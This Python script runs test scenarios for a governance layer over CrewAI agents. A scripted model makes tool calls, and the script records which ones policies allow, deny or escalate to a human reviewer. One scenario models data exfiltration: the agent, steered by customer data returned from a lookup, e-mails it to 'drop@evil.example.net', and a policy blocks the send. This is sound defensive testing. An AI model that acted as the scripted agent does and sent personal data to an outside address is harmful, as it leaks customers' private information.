"""Real CrewAI crews under claw-governance, run in ONE subprocess by the tests (see conftest.py).

``python crewai_scenarios.py OUT_DIR`` runs every scenario against real crewai (a scripted ``BaseLLM``
instead of a model, nothing leaves the machine) on both tool paths where tools are involved, and writes
what it observed to ``OUT_DIR/results.json``: which tool bodies ran, what the model was shown next, the
kickoff's result or error, trust scores, escalations and the audit entries. The tests assert on that.

Why a subprocess: crewai reads HOME / XDG_DATA_HOME / CREWAI_STORAGE_DIR and its telemetry switches when
it is imported, and its hook lists are process-wide; a child process gets a clean, isolated environment
without changing the environment of the pytest process that other test suites share.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
import threading
import time
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from claw_governance_crewai import (
    GovernedCrewTool,
    crewai_governance,
    disable_crewai_governance,
    enable_crewai_governance,
    governance_guardrail,
    governed_kickoff,
    task_audit_callback,
)
from claw_governance_crewai.testing import ScriptedLLM, native_call, react_action, react_final
from crewai import Agent, Crew, Task
from crewai.hooks import get_after_tool_call_hooks, get_before_tool_call_hooks
from crewai.tools import BaseTool, tool

from claw_governance import Governor, Outcome
from claw_governance.hookspecs import hookimpl

PATHS = ("react", "native")

POLICY = """\
agent: researcher
permissions:
  allow: ["tool:lookup", "tool:flaky", "task:*"]
  deny: ["tool:delete_*", "task:publish*"]
  escalate:
    - action: "tool:send_email"
      reason: Outbound e-mail needs a human
    - action: "task:final-report"
      reason: Reports go out only after review
"""


EXFILTRATION_POLICY = """\
agent: researcher
permissions:
  allow: ["tool:lookup", "tool:send_email"]
  deny:
    - action: "tool:send_email"
      condition: '"pii" in session.labels && !to.endsWith("@example.com")'
labels:
  "tool:lookup": [pii]
"""


class Scene:
    """One scenario's world: a governor in its own folder, tools that leave side effects, a results dict."""

    def __init__(self, root: Path, name: str, governor_cls: type[Governor] = Governor, **settings: Any) -> None:
        self.dir = root / name
        (self.dir / "policies").mkdir(parents=True)
        (self.dir / "effects").mkdir()
        (self.dir / "policies" / "researcher.yaml").write_text(POLICY)
        settings.setdefault("load_entry_points", False)
        self.gov = governor_cls(
            policy_path=self.dir / "policies",
            audit_path=self.dir / "audit",
            identity_path=self.dir / "identities",
            state_path=self.dir / "state",
            **settings,
        )
        self.ran: list[str] = []
        self.tools = self._make_tools()

    def _make_tools(self) -> dict[str, BaseTool]:
        effects = self.dir / "effects"
        ran = self.ran

        @tool("Lookup")
        def lookup(query: str) -> str:
            """Look a fact up."""
            ran.append("lookup")
            return f"LOOKUP-RESULT for {query}"

        @tool("Delete Records")
        def delete_records(table: str) -> str:
            """Delete every record of a table."""
            ran.append("delete_records")
            (effects / f"deleted-{table}").write_text("gone")
            return f"deleted {table}"

        @tool("Send Email")
        def send_email(to: str, body: str) -> str:
            """Send an e-mail."""
            ran.append("send_email")
            (effects / f"mail-{len(ran)}").write_text(f"{to}: {body}")
            return f"SENT to {to}"

        @tool("Flaky")
        def flaky(x: int) -> str:
            """A tool that always fails."""
            ran.append("flaky")
            raise RuntimeError("backend unavailable")

        return {"lookup": lookup, "delete_records": delete_records, "send_email": send_email, "flaky": flaky}

    def effects(self) -> list[str]:
        return sorted(p.name for p in (self.dir / "effects").iterdir())

    def audit(self) -> list[dict[str, Any]]:
        return [dict(e) for e in self.gov.audit.entries()]

    def summary(self) -> dict[str, Any]:
        return {
            "ran": list(self.ran),
            "effects": self.effects(),
            "audit": self.audit(),
            "trust": self.gov.trust_score("researcher"),
            "pending": [e.id for e in self.gov.escalations.pending()],
        }


def steps_for(path: str, calls: list[tuple[str, dict[str, Any]]], final: str) -> list[Any]:
    """The scripted model's answers: the tool calls in order, then ``final``."""
    if path == "native":
        return [*(native_call(t, a, f"call_{i}") for i, (t, a) in enumerate(calls)), final]
    return [*(react_action(t, a) for t, a in calls), react_final(final)]


def kickoff(
    path: str,
    tools: list[BaseTool],
    calls: list[tuple[str, dict[str, Any]]],
    final: str = "all done",
    *,
    runner: Callable[[Crew], Any] | None = None,
    task_kwargs: dict[str, Any] | None = None,
    crew_kwargs: dict[str, Any] | None = None,
    llm: ScriptedLLM | None = None,
) -> dict[str, Any]:
    """Run one real crew (one agent "Researcher", one task) and report what happened."""
    llm = llm or ScriptedLLM(
        model="scripted", steps=steps_for(path, calls, final), native=path == "native", fallback=final
    )
    agent = Agent(
        role="Researcher",
        goal="Answer questions",
        backstory="Careful.",
        llm=llm,
        tools=tools,
        verbose=False,
        max_iter=6,
    )
    task = Task(description="Do the job", expected_output="A short answer", agent=agent, **(task_kwargs or {}))
    crew = Crew(agents=[agent], tasks=[task], verbose=False, **(crew_kwargs or {}))
    result: dict[str, Any] = {"output": None, "error": None}
    try:
        out = runner(crew) if runner else crew.kickoff()
        result["output"] = out.raw
    except Exception as exc:
        result["error"] = f"{type(exc).__name__}: {exc}"
    result["seen"] = llm.text_seen()
    result["llm_calls"] = len(llm.seen)
    return result


@contextlib.contextmanager
def enabled(gov: Governor, **kwargs: Any) -> Iterator[None]:
    enable_crewai_governance(gov, **kwargs)
    try:
        yield
    finally:
        disable_crewai_governance(gov)


def approve_when_pending(gov: Governor, seconds: float = 10.0) -> threading.Thread:
    """A "human" in another thread: approves the first escalation that shows up."""

    def run() -> None:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            pending = gov.escalations.pending()
            if pending:
                gov.resolve_escalation(
                    pending[0].id, "approved", notes="ok", resolver=gov.reviewers.ensure("alice@example.com")
                )
                return
            time.sleep(0.02)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread


# ------------------------------------------------------------------------------------------ scenarios


def hook_scenarios(root: Path, path: str) -> dict[str, Any]:
    out: dict[str, Any] = {}

    s = Scene(root, f"allowed-{path}")
    with enabled(s.gov):
        out["allowed"] = kickoff(path, [s.tools["lookup"]], [("lookup", {"query": "tides"})])
    out["allowed"].update(s.summary())

    s = Scene(root, f"denied-{path}")
    with enabled(s.gov):
        out["denied"] = kickoff(
            path,
            [s.tools["lookup"], s.tools["delete_records"]],
            [("delete_records", {"table": "users"}), ("lookup", {"query": "after"})],
        )
    out["denied"].update(s.summary())

    s = Scene(root, f"escalated-{path}")
    with enabled(s.gov):
        mail = [("send_email", {"to": "bob@example.com", "body": "hi"})]
        first = kickoff(path, [s.tools["send_email"]], mail)
        first.update(s.summary())
        if first["pending"]:
            s.gov.resolve_escalation(
                first["pending"][0], "approved", notes="fine", resolver=s.gov.reviewers.ensure("alice@example.com")
            )
        again = kickoff(path, [s.tools["send_email"]], mail)
        again.update(s.summary())
        third = kickoff(path, [s.tools["send_email"]], mail)
        third.update(s.summary())
    out["escalated"] = {"first": first, "after_approval": again, "grant_used_up": third}

    # Data-flow labels (issue 20): the lookup's output carries customer data (label pii); the model, steered
    # by it, then mails it outside. Each call is allowed on its own; the session's label denies the mail.
    s = Scene(root, f"exfiltration-{path}")
    (s.dir / "policies" / "researcher.yaml").write_text(EXFILTRATION_POLICY)
    s.gov.reload_policies()
    with enabled(s.gov):
        out["exfiltration"] = kickoff(
            path,
            [s.tools["lookup"], s.tools["send_email"]],
            [
                ("lookup", {"query": "customer 7"}),
                ("send_email", {"to": "drop@evil.example.net", "body": "LOOKUP-RESULT for customer 7"}),
                ("send_email", {"to": "team@example.com", "body": "looked up customer 7"}),
            ],
        )
    out["exfiltration"].update(s.summary())

    s = Scene(root, f"escalation-wait-{path}")
    with enabled(s.gov, wait_for_approval=10):
        human = approve_when_pending(s.gov)
        out["escalation_wait"] = kickoff(
            path, [s.tools["send_email"]], [("send_email", {"to": "carol@example.com", "body": "report"})]
        )
        human.join(5)
    out["escalation_wait"].update(s.summary())

    s = Scene(root, f"trust-{path}")
    s.gov.agent("researcher")
    before = s.gov.trust_score("researcher")
    with enabled(s.gov):
        out["trust"] = kickoff(path, [s.tools["flaky"]], [("flaky", {"x": 1})])
    out["trust"].update(s.summary(), trust_before=before)

    s = Scene(root, f"hook-error-{path}")

    def broken_agent_id(context: Any) -> str:
        raise KeyError("no such directory entry")

    with enabled(s.gov, agent_id=broken_agent_id):
        out["hook_error"] = kickoff(
            path,
            [s.tools["delete_records"], s.tools["lookup"]],
            [("lookup", {"query": "x"}), ("delete_records", {"table": "orders"})],
        )
    out["hook_error"].update(s.summary())

    class ExplodingGovernor(Governor):
        def before_call(self, call: Any) -> Any:
            raise RuntimeError("governor exploded")

    s = Scene(root, f"governor-error-{path}", governor_cls=ExplodingGovernor)
    with enabled(s.gov):
        out["governor_error"] = kickoff(path, [s.tools["lookup"]], [("lookup", {"query": "x"})])
    out["governor_error"].update(s.summary())

    class BrokenPolicyPlugin:
        @hookimpl
        def claw_decide(self, call: Any, policy: Any) -> Any:
            raise ValueError("plugin bug")

    s = Scene(root, f"plugin-error-{path}", plugins=[BrokenPolicyPlugin()])
    with enabled(s.gov):
        out["plugin_error"] = kickoff(path, [s.tools["lookup"]], [("lookup", {"query": "x"})])
    out["plugin_error"].update(s.summary())

    s = Scene(root, f"scoped-{path}")
    hooks_before = len(get_before_tool_call_hooks())
    scoped = kickoff(
        path,
        [s.tools["delete_records"]],
        [("delete_records", {"table": "a"})],
        runner=lambda crew: governed_kickoff(crew, s.gov),
    )
    scoped.update(s.summary())
    inside_ctx: dict[str, Any] = {}
    with crewai_governance(s.gov):
        inside_ctx = kickoff(path, [s.tools["delete_records"]], [("delete_records", {"table": "b"})])
    inside_ctx.update(s.summary())
    outside = kickoff(path, [s.tools["delete_records"]], [("delete_records", {"table": "c"})])
    outside.update(s.summary())
    out["scoped"] = {
        "governed_kickoff": scoped,
        "with_block": inside_ctx,
        "after_block": outside,
        "global_hooks_unchanged": len(get_before_tool_call_hooks()) == hooks_before,
    }

    s = Scene(root, f"wrapped-{path}")
    wrapped = [
        GovernedCrewTool(s.tools[name], governor=s.gov, agent_id="researcher") for name in ("lookup", "delete_records")
    ]
    alone = kickoff(path, wrapped, [("lookup", {"query": "w"}), ("delete_records", {"table": "users"})])
    alone.update(s.summary())
    with enabled(s.gov):
        both = kickoff(path, wrapped, [("lookup", {"query": "v"})])
    both.update(s.summary())
    out["wrapped"] = {
        "alone": alone,
        "with_hooks": both,
        "schema_kept": wrapped[0].args_schema is s.tools["lookup"].args_schema,
    }
    return out


def enable_scenario(root: Path) -> dict[str, Any]:
    """``gov.enable()`` through the installed entry point alone, then ``gov.disable()`` and ``close()``."""
    s = Scene(root, "enable-entry-point", load_entry_points=True)
    counts = {"start": (len(get_before_tool_call_hooks()), len(get_after_tool_call_hooks()))}
    s.gov.enable()
    s.gov.enable()  # idempotent
    counts["enabled"] = (len(get_before_tool_call_hooks()), len(get_after_tool_call_hooks()))
    health = s.gov.health_check()["components"].get("crewai")
    run = kickoff("react", [s.tools["delete_records"]], [("delete_records", {"table": "users"})])
    run.update({"ran": list(s.ran), "effects": s.effects()})
    s.gov.disable()
    counts["disabled"] = (len(get_before_tool_call_hooks()), len(get_after_tool_call_hooks()))
    after = kickoff("react", [s.tools["lookup"]], [("lookup", {"query": "free"})])
    after.update({"ran": list(s.ran), "effects": s.effects()})
    s.gov.enable()
    s.gov.close()  # close() leaves the hooks in place, denying: it never opens a door
    counts["closed"] = (len(get_before_tool_call_hooks()), len(get_after_tool_call_hooks()))
    s.gov.disable()  # only an explicit disable() removes them
    counts["disabled_after_close"] = (len(get_before_tool_call_hooks()), len(get_after_tool_call_hooks()))
    return {
        "plugins": sorted(n for n, _ in s.gov.pm.list_name_plugin()),
        "counts": counts,
        "health": health,
        "while_enabled": run,
        "after_disable": after,
    }


def task_scenarios(root: Path) -> dict[str, Any]:
    out: dict[str, Any] = {}

    s = Scene(root, "task-allowed")
    out["allowed"] = kickoff(
        "react",
        [],
        [],
        final="The summary.",
        task_kwargs={"name": "summary", "guardrail": governance_guardrail(s.gov)},
        crew_kwargs={"task_callback": task_audit_callback(s.gov)},
    )
    out["allowed"].update(s.summary())

    s = Scene(root, "task-denied")
    out["denied"] = kickoff(
        "react",
        [],
        [],
        final="Press release text.",
        task_kwargs={"name": "publish", "guardrail": governance_guardrail(s.gov), "guardrail_max_retries": 1},
        crew_kwargs={"task_callback": task_audit_callback(s.gov)},
    )
    out["denied"].update(s.summary())

    s = Scene(root, "task-escalated-approved")
    human = approve_when_pending(s.gov)
    out["escalated_approved"] = kickoff(
        "react",
        [],
        [],
        final="The final report.",
        task_kwargs={"name": "Final Report", "guardrail": governance_guardrail(s.gov, hold_seconds=10)},
        crew_kwargs={"task_callback": task_audit_callback(s.gov)},
    )
    human.join(5)
    out["escalated_approved"].update(s.summary())

    s = Scene(root, "task-escalated-unanswered")
    guard = governance_guardrail(s.gov, hold_seconds=0.2)
    out["escalated_unanswered"] = kickoff(
        "react",
        [],
        [],
        final="The final report.",
        task_kwargs={"name": "Final Report", "guardrail": guard, "guardrail_max_retries": 2},
    )
    out["escalated_unanswered"].update(s.summary(), outcomes=[d.outcome.value for d in guard.gate.decisions])

    s = Scene(root, "task-escalated-denied")

    def deny_when_pending() -> None:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            pending = s.gov.escalations.pending()
            if pending:
                s.gov.resolve_escalation(
                    pending[0].id, "denied", notes="no", resolver=s.gov.reviewers.ensure("alice@example.com")
                )
                return
            time.sleep(0.02)

    thread = threading.Thread(target=deny_when_pending, daemon=True)
    thread.start()
    out["escalated_denied"] = kickoff(
        "react",
        [],
        [],
        final="The final report.",
        task_kwargs={
            "name": "Final Report",
            "guardrail": governance_guardrail(s.gov, hold_seconds=10),
            "guardrail_max_retries": 0,
        },
    )
    thread.join(5)
    out["escalated_denied"].update(s.summary())
    return out


def async_scenarios(root: Path, path: str) -> dict[str, Any]:
    """crewai's async entry points: ``crew.akickoff()`` under the global and the scoped hooks, and
    ``GovernedCrewTool.arun`` (its ``_arun``) called directly, for sync and async tools."""
    out: dict[str, Any] = {}

    s = Scene(root, f"akickoff-{path}")
    with enabled(s.gov):
        out["akickoff"] = kickoff(
            path,
            [s.tools["lookup"], s.tools["delete_records"]],
            [("delete_records", {"table": "users"}), ("lookup", {"query": "async"})],
            runner=lambda crew: asyncio.run(crew.akickoff()),
        )
    out["akickoff"].update(s.summary())

    s = Scene(root, f"akickoff-scoped-{path}")

    async def scoped_run(crew: Crew) -> Any:
        with crewai_governance(s.gov):
            return await crew.akickoff()

    out["akickoff_scoped"] = kickoff(
        path,
        [s.tools["delete_records"]],
        [("delete_records", {"table": "x"})],
        runner=lambda crew: asyncio.run(scoped_run(crew)),
    )
    out["akickoff_scoped"].update(s.summary())

    if path == "react":  # the wrapper's own async entry point does not depend on the tool path
        s = Scene(root, "wrapped-arun")

        @tool("Delete Async")
        async def delete_async(table: str) -> str:
            """Delete a table (async tool)."""
            s.ran.append("delete_async")
            return f"deleted {table}"

        @tool("Lookup Async")
        async def lookup_async(query: str) -> str:
            """Look up (async tool)."""
            s.ran.append("lookup_async")
            return f"found {query}"

        def wrap(t: BaseTool, **kw: Any) -> GovernedCrewTool:
            return GovernedCrewTool(t, governor=s.gov, agent_id="researcher", **kw)

        async def calls() -> dict[str, Any]:
            results: dict[str, Any] = {
                "sync_denied": await wrap(s.tools["delete_records"]).arun(table="users"),
                "async_denied": await wrap(delete_async, action="tool:delete_async").arun(table="users"),
                "async_escalated": await wrap(delete_async, action="tool:send_email").arun(table="mail"),
                "async_allowed": await wrap(lookup_async, action="tool:lookup").arun(query="q"),
            }
            try:
                await wrap(delete_async, action="tool:delete_async", on_block="raise").arun(table="t")
                results["raised"] = None
            except Exception as exc:
                results["raised"] = type(exc).__name__
            return results

        out["wrapped_arun"] = {"results": asyncio.run(calls())}
        out["wrapped_arun"].update(s.summary())
    return out


def main(out_dir: str) -> int:
    root = Path(out_dir)
    root.mkdir(parents=True, exist_ok=True)
    results: dict[str, Any] = {"errors": {}}
    started = time.perf_counter()
    jobs: dict[str, Callable[[], Any]] = {f"hooks_{p}": (lambda p=p: hook_scenarios(root, p)) for p in PATHS}
    jobs.update({f"async_{p}": (lambda p=p: async_scenarios(root, p)) for p in PATHS})
    jobs["enable"] = lambda: enable_scenario(root)
    jobs["tasks"] = lambda: task_scenarios(root)
    for name, job in jobs.items():
        t0 = time.perf_counter()
        try:
            results[name] = job()
            results[name]["seconds"] = round(time.perf_counter() - t0, 3)
        except Exception:
            results["errors"][name] = traceback.format_exc()
    results["seconds"] = round(time.perf_counter() - started, 3)
    results["outcomes"] = [o.value for o in Outcome]
    (root / "results.json").write_text(json.dumps(results, indent=1, default=repr))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
